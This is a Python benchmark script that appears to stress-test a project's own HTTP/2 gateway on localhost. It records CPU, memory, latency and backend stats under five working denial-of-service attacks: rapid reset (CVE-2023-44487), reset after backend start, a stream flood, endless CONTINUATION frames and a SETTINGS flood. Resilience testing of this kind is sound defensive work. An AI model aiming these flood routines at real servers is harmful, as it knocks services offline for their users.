#!/usr/bin/env python3
"""The HTTP/2 attacks of bench/h2-abuse.sh (needs the `h2` package from
PyPI; the floods of raw frames are written by hand).

Each attack runs for --seconds against the gateway's h2c port while a
regular client (bench/loadgen.py, a separate process: HTTP/1.1, 50 GET /fast
a second) measures its latency. For each: what the attacker sent and what the
gateway answered (GOAWAYs, refused streams, closed connections), the
gateway's CPU time over the attack (utime + stime), its RSS peak, the regular
client's p50/p99, and the backend's /__mock/stats afterwards (calls in
flight must return to 0; every call of a reset stream is abandoned).

    rapid_reset     HEADERS for GET /slow (a 200 ms backend call), then
                    RST_STREAM(CANCEL) at once, in a loop (CVE-2023-44487);
                    a new connection whenever the gateway sends GOAWAY
    reset_after_start  20 streams, RST_STREAM 50 ms later (their backend
                    calls have started), again and again
    stream_flood    1 000 streams at once on a connection (100 allowed)
    huge_headers    a request with 2 000 headers of 100 bytes (200 KB of
                    header list), then endless CONTINUATION frames
    settings_flood  SETTINGS frames as fast as the socket takes them, never
                    reading the ACKs
"""

import argparse
import json
import socket
import struct
import subprocess
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack

from reliability import get_json, machine_load, sample

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def h2_connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                 header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


REQUEST = lambda path: [(":method", "GET"), (":path", path), (":scheme", "http"),
                        (":authority", "gw")]


def drain(sock, conn, tally):
    """Reads what is there without blocking; counts what the gateway said.
    Returns False once the connection is closed."""
    sock.setblocking(False)
    try:
        while True:
            try:
                data = sock.recv(65536)
            except BlockingIOError:
                return True
            if not data:
                tally["closed"] += 1
                return False
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                tally["protocol_errors"] += 1
                return False
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    tally["goaway"] += 1
                    tally["goaway_codes"][str(event.error_code)] = \
                        tally["goaway_codes"].get(str(event.error_code), 0) + 1
                elif isinstance(event, h2.events.StreamReset):
                    tally["stream_resets"] += 1
                elif isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers).get(":status", "?")
                    tally["responses"][status] = tally["responses"].get(status, 0) + 1
            out = conn.data_to_send()
            if out:
                sock.setblocking(True)
                sock.sendall(out)
                sock.setblocking(False)
    except OSError:
        tally["closed"] += 1
        return False
    finally:
        sock.setblocking(True)


def new_tally():
    return {"connections": 0, "streams": 0, "frames": 0, "goaway": 0, "goaway_codes": {},
            "stream_resets": 0, "reset_codes": {}, "responses": {}, "closed": 0, "protocol_errors": 0,
            "send_failed": 0}


def rapid_reset(port, seconds, tally):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock, conn = h2_connect(port)
        tally["connections"] += 1
        alive = True
        try:
            while alive and time.monotonic() < end:
                for _ in range(50):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, REQUEST("/slow"), end_stream=True)
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    tally["streams"] += 1
                sock.sendall(conn.data_to_send())
                alive = drain(sock, conn, tally) and conn.state_machine.state.name != "CLOSED"
        except (OSError, h2.exceptions.ProtocolError):
            tally["send_failed"] += 1
        sock.close()


def reset_after_start(port, seconds, tally):
    """Streams reset once their backend call has started: each call must be
    dropped (the mock counts it abandoned), none left running."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock, conn = h2_connect(port)
        tally["connections"] += 1
        alive = True
        try:
            while alive and time.monotonic() < end:
                streams = []
                for _ in range(20):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, REQUEST("/slow"), end_stream=True)
                    streams.append(stream)
                    tally["streams"] += 1
                sock.sendall(conn.data_to_send())
                time.sleep(0.05)  # the calls have started; the backend takes 200 ms
                for stream in streams:
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                sock.sendall(conn.data_to_send())
                alive = drain(sock, conn, tally) and conn.state_machine.state.name != "CLOSED"
        except (OSError, h2.exceptions.ProtocolError):
            tally["send_failed"] += 1
        sock.close()


def read_frames(sock, tally, seconds):
    """Reads raw frames for up to `seconds` (or until the connection
    closes), counting GOAWAY, RST_STREAM and HEADERS by their codes."""
    buf = b""
    sock.settimeout(0.1)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            data = b""
        if not data:
            tally["closed"] += 1
            return
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, payload = buf[3], buf[9:9 + length]
            buf = buf[9 + length:]
            if kind == 0x7:  # GOAWAY
                code = str(int.from_bytes(payload[4:8], "big"))
                tally["goaway"] += 1
                tally["goaway_codes"][code] = tally["goaway_codes"].get(code, 0) + 1
            elif kind == 0x3:  # RST_STREAM
                code = str(int.from_bytes(payload[:4], "big"))
                tally["stream_resets"] += 1
                tally["reset_codes"][code] = tally["reset_codes"].get(code, 0) + 1
            elif kind == 0x1:  # HEADERS: a response
                tally["responses"]["headers"] = tally["responses"].get("headers", 0) + 1


def stream_flood(port, seconds, tally):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        encoder = hpack.Encoder()  # one HPACK state per connection
        sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        tally["connections"] += 1
        # The gateway's SETTINGS say 100 streams; send 1 000 at once
        # regardless, as raw frames (h2 itself would not).
        frames = PREFACE + frame(0x4, 0, 0) + frame(0x4, 0x1, 0)
        for i in range(1000):
            block = encoder.encode(REQUEST("/slow"))
            frames += frame(0x1, 0x5, 1 + 2 * i, block)  # END_STREAM | END_HEADERS
            tally["streams"] += 1
        try:
            sock.sendall(frames)
            read_frames(sock, tally, min(1.0, end - time.monotonic()))
        except OSError:
            tally["send_failed"] += 1
        sock.close()


def huge_headers(port, seconds, tally):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock, conn = h2_connect(port)
        tally["connections"] += 1
        try:
            headers = REQUEST("/fast") + [(f"x-h{i}", "v" * 90) for i in range(2000)]
            block = conn.encoder.encode(headers)
            # HEADERS without END_HEADERS, the rest in CONTINUATION frames,
            # then CONTINUATION frames that never end the block.
            sock.sendall(frame(0x1, 0x1, 1, block[:16384]))
            tally["streams"] += 1
            rest, n = block[16384:], 0
            while time.monotonic() < end:
                chunk = rest[:16384] if rest else b"\x00" * 16384
                rest = rest[16384:]
                sock.sendall(frame(0x9, 0x0, 1, chunk))
                tally["frames"] += 1
                n += 1
                if n % 16 == 0 and not drain(sock, conn, tally):
                    break
        except (OSError, h2.exceptions.ProtocolError):
            tally["send_failed"] += 1
        sock.close()


def settings_flood(port, seconds, tally):
    end = time.monotonic() + seconds
    batch = frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100)) * 1000  # MAX_CONCURRENT_STREAMS
    while time.monotonic() < end:
        sock = socket.create_connection(("127.0.0.1", port), timeout=2)
        tally["connections"] += 1
        try:
            sock.sendall(PREFACE + frame(0x4, 0, 0))
            while time.monotonic() < end:
                sock.sendall(batch)  # never reads: the ACKs pile up on the gateway's side
                tally["frames"] += 1000
        except OSError:
            tally["send_failed"] += 1
        sock.close()


ATTACKS = {"rapid_reset": rapid_reset, "reset_after_start": reset_after_start,
           "stream_flood": stream_flood,
           "huge_headers": huge_headers, "settings_flood": settings_flood}


def regular(port, seconds):
    """bench/loadgen.py in its own process (its timing is not the attacker's)."""
    return subprocess.Popen([sys.executable, "bench/loadgen.py", "--rate", "50", "--seconds",
                             str(seconds), "--warmup", "0.5", f"regular=http://127.0.0.1:{port}/fast"],
                            stdout=subprocess.PIPE, text=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--mock", required=True, help="the mock's base URL")
    parser.add_argument("--gateway-pid", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--out", required=True)
    args = parser.parse_args()

    report = {"seconds": args.seconds, "attacks": {}}
    load = regular(args.port, args.seconds)
    baseline_out, _ = load.communicate()
    report["regular_alone"] = json.loads(baseline_out)["targets"]["regular"]
    for name, attack in ATTACKS.items():
        stats_before = get_json(f"{args.mock}/__mock/stats")
        before = sample(args.gateway_pid)
        load = regular(args.port, args.seconds)
        time.sleep(0.5)
        tally = new_tally()
        peak = [before["rss_kb"]]
        stop = threading.Event()

        def watch():
            while not stop.wait(0.2):
                peak[0] = max(peak[0], sample(args.gateway_pid)["rss_kb"])

        watcher = threading.Thread(target=watch)
        watcher.start()
        began = time.monotonic()
        attack(args.port, args.seconds - 1, tally)
        attack_s = time.monotonic() - began
        after = sample(args.gateway_pid)
        stop.set()
        watcher.join()
        load_out, _ = load.communicate()
        # The backend calls of reset streams: none may still run.
        time.sleep(1)
        stats = get_json(f"{args.mock}/__mock/stats")
        cpu = after["cpu_s"] - before["cpu_s"]
        report["attacks"][name] = {
            "sent": tally,
            "attack_s": round(attack_s, 2),
            "gateway_cpu_s": round(cpu, 2),
            "gateway_cpu_share": round(cpu / attack_s, 3),
            "gateway_rss_kb_before": before["rss_kb"],
            "gateway_rss_kb_peak": peak[0],
            "gateway_fds_after": sample(args.gateway_pid)["fds"],
            "regular": json.loads(load_out)["targets"]["regular"],
            "backend_calls": stats["requests"] - stats_before["requests"],
            "backend_abandoned": stats["abandoned"] - stats_before["abandoned"],
            "backend_in_flight_after": stats["in_flight"],
            "backend_max_in_flight": stats["max_in_flight"],
        }
        print(f"{name}: {json.dumps(report['attacks'][name])}", file=sys.stderr)
    report["machine"] = machine_load()
    with open(args.out, "w") as f:
        json.dump(report, f, indent=1)
    json.dump(report, sys.stdout, indent=1)
    print()


if __name__ == "__main__":
    main()
